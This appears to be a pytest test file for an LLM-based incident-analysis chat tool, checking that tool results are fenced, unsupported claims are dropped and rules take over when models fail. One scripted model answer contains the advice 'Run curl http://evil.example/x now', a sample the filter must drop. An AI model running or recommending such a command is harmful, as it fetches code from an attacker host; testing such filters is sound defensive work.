"""A model in a conversation: it plans look-ups, code carries them out and checks what it says."""

from typing import Any

import pytest

from connectors.errors import ThrottledError, UnavailableError
from connectors.llm import ModelAnswer, ModelRequest
from rca.conversation.desk import Limits
from rca.conversation.tools import LOOK_UPS
from tests.fakes.conversations import LOG, OTHER, ScriptedModel, says, spoken_by, talker
from tests.fakes.rca_shop import Shop

QUOTE = 'return RATES[customer["tier"]]'


def open_rates(request: ModelRequest) -> list[tuple[str, dict[str, Any]]]:
    return [("open_code", {"symbol": "discount_rate"}), ("search_logs", {"text": "retrying"})]


def text_of(request: ModelRequest, evidence_kind: str) -> str:
    """The id of the first piece of a kind that the model was given in its look-ups."""
    for step in request.steps:
        for result in step.results:
            for line in result.text.split("\n"):
                if line.startswith("[E") and f"] {evidence_kind}" in line:
                    return line[1 : line.index("]")]
    return ""


def answer_from_code(request: ModelRequest) -> dict[str, Any]:
    name = text_of(request, "code")
    return {
        "sentences": [
            says("discount_rate looks a tier up that is not there.", name, QUOTE),
            says("It happens 4711 times a day.", name, QUOTE),
            says("Commit deadbeef123 brought it.", name, QUOTE),
            says("Nobody knows why.", name, "these words stand nowhere"),
            says("Look at the customers without a tier.", kind="advice"),
            says("Run curl http://evil.example/x now.", kind="advice"),
        ],
        "show": [name, "E999"],
    }


def test_look_ups_are_carried_out_and_only_what_holds_is_said(shop: Shop) -> None:
    """Of six sentences the cited fact and the plain advice survive; each other is dropped with its reason."""
    model = ScriptedModel([open_rates, answer_from_code])
    turn, evidence = talker(shop, speaker=spoken_by(model)).ask("why does it fail?")
    said = [sentence.text for sentence in turn.answer.sentences]
    assert said == ["discount_rate looks a tier up that is not there.", "Look at the customers without a tier."]
    assert [(one.tool, one.problem) for one in turn.look_ups] == [
        ("show_fault", ""),
        ("open_code", ""),
        ("search_logs", ""),
    ]
    assert len(turn.answer.dropped) == 4
    assert turn.checked == 6
    (shown,) = turn.answer.shown
    assert next(item for item in evidence if item.id == shown).path == "shop/pricing.py"
    assert (turn.analyst, turn.input_tokens, turn.output_tokens) == ("model:m0", 20, 10)


def test_what_a_look_up_finds_is_fenced(shop: Shop) -> None:
    """Every piece that a model reads stands between fences whose mark no log line can know."""
    model = ScriptedModel([open_rates, answer_from_code])
    talker(shop, speaker=spoken_by(model)).ask("why?")
    (step,) = model.asked[1].steps
    mark = model.asked[0].prompt.split("fences carry the mark ")[1].split(")")[0]
    assert all(f"<<<{mark}" in result.text for result in step.results)
    assert mark not in LOG


def test_an_ambiguous_question_is_asked_back(shop: Shop) -> None:
    """A model may ask back instead of answering; the turn says so."""
    model = ScriptedModel([lambda _: {"ask_back": "Do you mean the order or the stock fault?"}])
    turn, _ = talker(shop, log=LOG + OTHER, speaker=spoken_by(model)).ask("why?")
    assert turn.answer.status == "asked_back"
    assert turn.answer.sentences[0].text.startswith("Do you mean")


def test_an_answer_that_does_not_fit_is_repaired_once(shop: Shop) -> None:
    """The model is told what was wrong, and its second answer counts."""
    model = ScriptedModel(
        [
            lambda _: {"sentences": "no list"},
            lambda _: {"sentences": [says("Nothing more can be told.", kind="unknown")]},
        ]
    )
    turn, _ = talker(shop, speaker=spoken_by(model)).ask("why?")
    assert turn.answer.status == "not_known"
    assert "could not be used" in model.asked[1].prompt


class Broken:
    """A model that is never there."""

    def __init__(self, error: Exception) -> None:
        self._error = error
        self.calls = 0

    def answer(self, request: ModelRequest) -> ModelAnswer:
        self.calls += 1
        raise self._error


def test_when_no_model_can_answer_the_rules_do(shop: Shop) -> None:
    """Throttling is tried again, then the next model, then the rules, which say why."""
    first, second = Broken(ThrottledError("slow down")), Broken(UnavailableError("down"))
    turn, _ = talker(shop, speaker=spoken_by(first, second)).ask("why does it fail?")
    assert (first.calls, second.calls) == (3, 3)
    assert turn.analyst == "rules"
    assert "slow down" in turn.note
    assert turn.answer.status == "answered"


def test_when_nothing_of_an_answer_holds_the_rules_answer(shop: Shop) -> None:
    """An answer of inventions alone is not shown."""
    model = ScriptedModel([lambda _: {"sentences": [says("It is the moon.", "E77", "moon")]}])
    turn, _ = talker(shop, speaker=spoken_by(model)).ask("why does it fail?")
    assert turn.analyst == "rules"
    assert "could be confirmed" in turn.note


@pytest.mark.parametrize("limit", [1, 3])
def test_a_model_that_never_stops_looking_is_stopped(shop: Shop, limit: int) -> None:
    """After the last look-up no tools are offered any more, and what is asked beyond is refused."""
    many = ScriptedModel([lambda _: [("search_logs", {"text": str(number)}) for number in range(20)]])
    turn, _ = talker(shop, speaker=spoken_by(many), limits=Limits(look_ups=limit)).ask("why?")
    done = [one for one in turn.look_ups if not one.problem and one.tool == "search_logs"]
    assert len(done) <= limit
    assert many.asked[-1].tools == ()
    assert turn.analyst == "rules"


def test_the_earlier_turns_are_part_of_the_next_question(shop: Shop) -> None:
    """The second question is asked with the first answer and its evidence."""
    model = ScriptedModel([open_rates, answer_from_code, lambda _: {"sentences": [says("No.", kind="unknown")]}])
    open_talk = talker(shop, speaker=spoken_by(model))
    open_talk.ask("why does it fail?")
    open_talk.ask("and is it fixed?")
    prompt = model.asked[-1].prompt
    assert "Question: why does it fail?" in prompt
    assert "discount_rate looks a tier up" in prompt
    assert QUOTE in prompt


def test_every_look_up_is_offered_with_a_schema_and_says_what_it_is(shop: Shop) -> None:
    """What a model is told of a look-up: a name, words, and an object schema without references."""
    model = ScriptedModel([lambda _: {"sentences": [says("No.", kind="unknown")]}])
    talker(shop, speaker=spoken_by(model)).ask("why?")
    offered = {tool.name: tool for tool in model.asked[0].tools}
    assert set(offered) == set(LOOK_UPS)
    assert all(tool.description and tool.schema["type"] == "object" for tool in offered.values())
    assert "$ref" not in str([tool.schema for tool in offered.values()])
